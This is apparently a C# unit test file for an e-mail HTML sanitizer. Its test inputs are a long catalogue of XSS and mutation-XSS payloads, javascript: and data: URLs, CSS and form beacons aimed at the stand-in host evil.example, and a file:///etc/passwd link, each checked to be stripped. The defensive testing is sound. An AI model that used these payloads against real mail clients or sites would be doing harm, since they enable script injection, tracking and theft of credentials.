using System.Diagnostics;
using AngleSharp.Html.Parser;
using LinservSupport.Mail.Understanding;

namespace LinservSupport.Tests.Mail.Understanding;

/// <summary>What a stranger's HTML may do once it is shown: nothing.</summary>
public sealed class MailHtmlTests
{
    [Theory]
    [InlineData("<script>alert(1)</script>x")]
    [InlineData("<img src=x onerror=alert(1)>x")]
    [InlineData("<svg><script>alert(1)</script></svg>x")]
    [InlineData("<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>x")]
    [InlineData("<template><img src=x onerror=alert(1)></template>x")]
    [InlineData("<a href='javascript:alert(1)'>x</a>")]
    [InlineData("<a href='data:text/html,<script>alert(1)</script>'>x</a>")]
    [InlineData("<form action=https://evil.example><input type=password><button>x</button></form>")]
    [InlineData("<iframe src=https://evil.example></iframe>x")]
    [InlineData("<meta http-equiv=refresh content='0;url=https://evil.example'>x")]
    [InlineData("<base href=https://evil.example>x")]
    [InlineData("<link rel=stylesheet href=https://evil.example/x.css>x")]
    [InlineData("<style>@import 'https://evil.example/x.css';</style>x")]
    [InlineData("<div style=\"background:url(https://evil.example/x)\">x</div>")]
    [InlineData("<div style=\"position:fixed;top:0;left:0;z-index:9999\">x</div>")]
    [InlineData("<p style=\"width:expression(alert(1))\">x</p>")]
    [InlineData("<img srcset='https://evil.example/a 1x' alt=x>x")]
    [InlineData("<video src=https://evil.example/a></video>x")]
    [InlineData("<table background=https://evil.example/a><tr><td>x</table>")]
    [InlineData("<img src='//evil.example/a'>x")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>x")]
    // What a cleaner and a browser read differently: foreign content, raw text, tables, comments, templates, frames.
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">")]
    [InlineData("<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>")]
    [InlineData("<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">x")]
    [InlineData("<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>x")]
    [InlineData("<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>x")]
    [InlineData("<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">x")]
    [InlineData("<svg><desc><noscript><p title='</noscript><script>alert(1)</script>'>x")]
    [InlineData("<table><td><noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">x</table>")]
    [InlineData("<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">x")]
    [InlineData("<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">x")]
    [InlineData("<plaintext><img src=x onerror=alert(1)>x")]
    [InlineData("<noframes><p title=\"</noframes><svg/onload=alert(1)>\"></noframes>x")]
    [InlineData("<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>x")]
    [InlineData("<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>x")]
    [InlineData("<!--><img src=x onerror=alert(1)>-->x")]
    [InlineData("<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->x<![CDATA[<img src=x onerror=alert(1)>]]>")]
    [InlineData("<?xml-stylesheet href='https://evil.example/a'?><!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.example/a'>]>x&e;")]
    [InlineData("</div></body></html><script>alert(1)</script><body onload=alert(1)>x")]
    [InlineData("<frameset onload=alert(1)><frame src=https://evil.example>x")]
    [InlineData("<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>x")]
    [InlineData("<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>x")]
    [InlineData("<details open ontoggle=alert(1)>x</details>")]
    [InlineData("<a href=\"jav&#x09;ascript:alert(1)\">x</a><a href=\"\u0001javascript:alert(1)\">x</a><a href=\"java\nscript:alert(1)\">x</a><a href='vbscript:x'>x</a>")]
    [InlineData("<a href=\"cid:x\" ping=https://evil.example>x</a><a href=\"file:///etc/passwd\">x</a>")]
    [InlineData("<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">x<img src=\"\\\\evil.example\\a\">")]
    [InlineData("<img src=\"cid:x\" lowsrc=https://evil.example/a dynsrc=https://evil.example/b longdesc=https://evil.example/c>x")]
    [InlineData("<picture><source srcset=https://evil.example/a><img src=cid:x></picture><image src=https://evil.example/b>x")]
    [InlineData("<link rel=dns-prefetch href=//evil.example><link rel=prefetch href=https://evil.example><link rel=preload as=image imagesrcset=https://evil.example/a>x")]
    [InlineData("<div style=\"background-image:image-set('https://evil.example/a' 1x)\">x</div><div style=\"content:url(https://evil.example/a)\">x</div>")]
    [InlineData("<div style=\"list-style:url(https://evil.example/a);cursor:url(https://evil.example/b),auto;mask:url(https://evil.example/c)\">x</div>")]
    [InlineData("<div style=\"b\\61ckground:u\\72l(https://evil.example/a);color:red;--x:url(https://evil.example/b);font:1px url(https://evil.example/c)\">x</div>")]
    [InlineData("<p style=\"shape-outside:url(https://evil.example/a);filter:url(https://evil.example/b);offset-path:url(https://evil.example/c);src:url(https://evil.example/d)\">x</p>")]
    [InlineData("<font style='{behavior:url(https://evil.example/a);-moz-binding:url(https://evil.example/b)}'>x</font>")]
    [InlineData("<audio src=https://evil.example/a autoplay></audio><track src=https://evil.example/b><embed src=https://evil.example/c><object data=https://evil.example/d><param name=movie value=https://evil.example/e></object>x")]
    [InlineData("<isindex action=https://evil.example prompt=x><button formaction=https://evil.example>x</button><input type=image src=https://evil.example/a>")]
    [InlineData("<meta http-equiv=Set-Cookie content=a=b><meta http-equiv='Content-Security-Policy' content=\"img-src *\">x")]
    [InlineData("<blockquote cite=https://evil.example/a><q cite=https://evil.example/b><ins cite=https://evil.example/c><del cite=javascript:alert(1)>x")]
    [InlineData("<p data-remote=\"https://evil.example/a\" is=x part=y slot=z itemprop=w>x</p>")]
    [InlineData("<custom-element onconnected=alert(1)>x</custom-element><slot name=x></slot>")]
    public void Nothing_runs_is_sent_or_is_fetched(string html)
    {
        var (clean, _) = MailHtml.Clean(html);

        // As a browser has it, which may read it once more; and in the page around it, which it must not leave.
        using var once = new HtmlParser().ParseDocument(clean);
        foreach (var picture in once.QuerySelectorAll($"[{MailHtml.RemoteMark}]")) picture.RemoveAttribute(MailHtml.RemoteMark);
        Assert.Equal(once.Body!.InnerHtml, MailHtml.Clean(once.Body.InnerHtml).Html);
        using var framed = new HtmlParser().ParseDocument($"<body><div class=mail>{clean}</div><p id=end></p>");
        Assert.Equal("BODY", framed.QuerySelector("#end")!.ParentElement!.NodeName);
        using var page = new HtmlParser().ParseDocument(once.Body.InnerHtml);
        Assert.Empty(page.QuerySelectorAll("script,style,svg,math,template,form,input,button,iframe,meta[http-equiv],base,link,video,object,embed"));
        Assert.All(page.All.SelectMany(e => e.Attributes), a =>
        {
            Assert.False(a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || a.Name is "srcset" or "background" or "id" or "name", a.Name);
            Assert.DoesNotContain("javascript:", a.Value, StringComparison.OrdinalIgnoreCase);
            if (a.Name is not ("href" or MailHtml.RemoteMark)) Assert.DoesNotContain("evil.example", a.Value, StringComparison.Ordinal);
        });
        Assert.DoesNotContain("fixed", clean, StringComparison.Ordinal);
    }

    [Fact]
    public void Text_tables_links_and_the_mails_own_pictures_stay()
    {
        var (clean, remote) = MailHtml.Clean("<h1 style=\"color:red\">Hej</h1><table border=1><tr><td>1<td>2</table><a href=https://odoo.example/web>länk</a><img src=\"cid:a@b\" width=10><img src=https://elsewhere.example/p.png>");

        using var page = new HtmlParser().ParseDocument(MailHtml.WithImages(clean, new Dictionary<string, string> { ["a@b"] = "/files/7" }, withRemote: false));
        Assert.Equal(1, remote);
        Assert.Equal(2, page.QuerySelectorAll("td").Length);
        Assert.Equal("noopener noreferrer nofollow", page.QuerySelector("a")!.GetAttribute("rel"));
        Assert.Equal(["/files/7", null], page.QuerySelectorAll("img").Select(i => i.GetAttribute("src")));
        using var asked = new HtmlParser().ParseDocument(MailHtml.WithImages(clean, new Dictionary<string, string>(), withRemote: true));
        Assert.Equal([null, "https://elsewhere.example/p.png"], asked.QuerySelectorAll("img").Select(i => i.GetAttribute("src")));
    }

    [Theory]
    [InlineData("<html><body bgcolor=#111111 style=\"color:#eee\"><p>x</p></body></html>")]
    [InlineData("<html><head></head><body style='background-color:#111111;color:#eeeeee'><p>x</p></body></html>")]
    public void A_mail_on_dark_ground_keeps_its_ground(string html) => Assert.StartsWith("<div style=\"background-color: rgba(17, 17, 17, 1); color: rgba(238, 238, 238, 1)\">", MailHtml.Clean(html).Html, StringComparison.Ordinal);

    [Fact]
    public void A_picture_that_would_be_fetched_in_the_clear_is_not_kept() =>
        Assert.DoesNotContain("192.168", MailHtml.Clean("<img src=http://192.168.1.1/reboot>x").Html, StringComparison.Ordinal);

    [Fact]
    public void A_token_in_a_link_is_blotted_out() =>
        Assert.DoesNotContain("s3cret", MailHtml.Clean("<a href='https://erp.norrvik.example/my/orders/1?x=1&amp;access_token=s3cret'>https://erp.norrvik.example/my?access_token=s3cret</a>").Html, StringComparison.Ordinal);

    [Fact]
    public void Much_html_takes_bounded_time()
    {
        var begin = Stopwatch.GetTimestamp();

        MailHtml.Clean(string.Concat(Enumerable.Repeat("<p><a href=https://a.example>b</a><img src=https://a.example/c></p>", 5_000)));

        Assert.True(Stopwatch.GetElapsedTime(begin) < TimeSpan.FromSeconds(10));
    }
}
